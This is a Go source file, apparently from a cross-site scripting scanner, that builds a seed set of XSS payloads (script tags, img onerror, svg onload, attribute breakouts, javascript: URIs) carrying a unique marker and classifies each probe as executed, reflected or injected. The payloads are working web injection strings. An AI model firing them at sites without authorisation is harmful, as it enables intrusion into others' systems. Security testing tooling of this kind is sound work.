package session

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"
)

// PayloadType names a payload family from the built-in seed set.
type PayloadType string

const (
	PayloadScript         PayloadType = "script"
	PayloadImg            PayloadType = "img"
	PayloadSvg            PayloadType = "svg"
	PayloadEvent          PayloadType = "event"
	PayloadJavascriptURI  PayloadType = "javascript_uri"
	PayloadAttributeBreak PayloadType = "attribute_break"
)

// PayloadContext names where a payload expects to land.
type PayloadContext string

const (
	ContextHTML      PayloadContext = "html"
	ContextAttribute PayloadContext = "attribute"
	ContextJS        PayloadContext = "javascript"
	ContextURL       PayloadContext = "url"
)

// Payload is one injection candidate carrying the probe marker verbatim.
type Payload struct {
	Type    PayloadType    `json:"payload_type"`
	Context PayloadContext `json:"context"`
	Body    string         `json:"body"`
}

// NewMarker derives a fresh probe marker, unique per invocation.
func NewMarker() string {
	return fmt.Sprintf("XSS_MARKER_%s_%d",
		strconv.FormatUint(rand.Uint64(), 36),
		time.Now().UnixMilli())
}

// SeedPayloads builds the built-in payload set with marker embedded. The
// set covers script bodies, error/load handlers, attribute breakers, and
// javascript: URIs.
func SeedPayloads(marker string) []Payload {
	return []Payload{
		{Type: PayloadScript, Context: ContextHTML,
			Body: fmt.Sprintf("<script>alert('%s')</script>", marker)},
		{Type: PayloadImg, Context: ContextHTML,
			Body: fmt.Sprintf(`<img src=x onerror=alert('%s')>`, marker)},
		{Type: PayloadSvg, Context: ContextHTML,
			Body: fmt.Sprintf(`<svg onload=alert('%s')>`, marker)},
		{Type: PayloadEvent, Context: ContextAttribute,
			Body: fmt.Sprintf(`" onmouseover=alert('%s') x="`, marker)},
		{Type: PayloadJavascriptURI, Context: ContextURL,
			Body: fmt.Sprintf("javascript:alert('%s')", marker)},
		{Type: PayloadAttributeBreak, Context: ContextAttribute,
			Body: fmt.Sprintf(`"><script>alert('%s')</script>`, marker)},
		{Type: PayloadAttributeBreak, Context: ContextAttribute,
			Body: fmt.Sprintf(`'><img src=x onerror=alert('%s')>`, marker)},
	}
}

// ProbeOutcome classifies one payload attempt. Severity order: EXECUTED >
// REFLECTED > ATTRIBUTE_INJECTION > NOT_REFLECTED.
type ProbeOutcome string

const (
	OutcomeExecuted           ProbeOutcome = "EXECUTED"
	OutcomeReflected          ProbeOutcome = "REFLECTED"
	OutcomeAttributeInjection ProbeOutcome = "ATTRIBUTE_INJECTION"
	OutcomeNotReflected       ProbeOutcome = "NOT_REFLECTED"
)

// XSSReport is the aggregate result of one probe run over one form field.
// The outcome lists carry the payload bodies that reached each class.
type XSSReport struct {
	Marker             string   `json:"marker"`
	Form               string   `json:"form"`
	Field              string   `json:"field"`
	PayloadsTried      int      `json:"payloads_tried"`
	Executed           []string `json:"executed"`
	Reflected          []string `json:"reflected"`
	AttributeInjection []string `json:"attribute_injection"`
	ConsoleMessages    []string `json:"console_messages,omitempty"`
	DialogText         string   `json:"dialog_text,omitempty"`
	EvidenceURI        string   `json:"evidence_uri,omitempty"`
}

func (r *XSSReport) record(p Payload, outcome ProbeOutcome) {
	switch outcome {
	case OutcomeExecuted:
		r.Executed = append(r.Executed, p.Body)
	case OutcomeReflected:
		r.Reflected = append(r.Reflected, p.Body)
	case OutcomeAttributeInjection:
		r.AttributeInjection = append(r.AttributeInjection, p.Body)
	}
}

// Vulnerable reports whether any payload surfaced.
func (r *XSSReport) Vulnerable() bool {
	return len(r.Executed) > 0 || len(r.Reflected) > 0 || len(r.AttributeInjection) > 0
}

// markerInDialogs scans captured dialogs for the marker, returning the
// matching dialog text.
func markerInDialogs(dialogs []string, marker string) (string, bool) {
	for _, d := range dialogs {
		if strings.Contains(d, marker) {
			return d, true
		}
	}
	return "", false
}
